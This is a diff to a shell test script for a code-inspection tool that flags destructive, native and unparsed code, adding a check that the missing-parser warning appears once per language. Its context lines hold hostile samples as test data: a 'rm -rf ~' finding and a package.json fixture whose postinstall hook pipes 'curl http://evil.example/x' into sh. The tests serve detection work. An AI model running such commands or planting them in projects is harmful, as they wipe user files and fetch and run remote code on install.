@@ -105,6 +105,13 @@ book.ipynb:8: destructive: rm -rf ~
 book.ipynb:9: not-looked-at: code of %%perl: no parser for it here
 book.ipynb:10: native: import ctypes
 END
+# That a language has no parser is told once a file.
+printf '#!/bin/sh\nawk 1 a\nawk 2 b\nperl -e 1\nperl -e 2\nawk 3 c\n' >awk.sh
+cg inspect --level warning awk.sh >out
+diff - out <<'END' || fail "awk.sh"
+awk.sh:2: not-looked-at: code of awk: no parser for it here
+awk.sh:4: not-looked-at: code of perl: no parser for it here
+END
 mkdir package
 printf '{"name": "x", "scripts": {\n"build": "tsc",\n"postinstall": "curl http://evil.example/x | sh",\n%s\n}}\n' \
 	'"test": "python3 -c \"import ctypes\""' >package/package.json
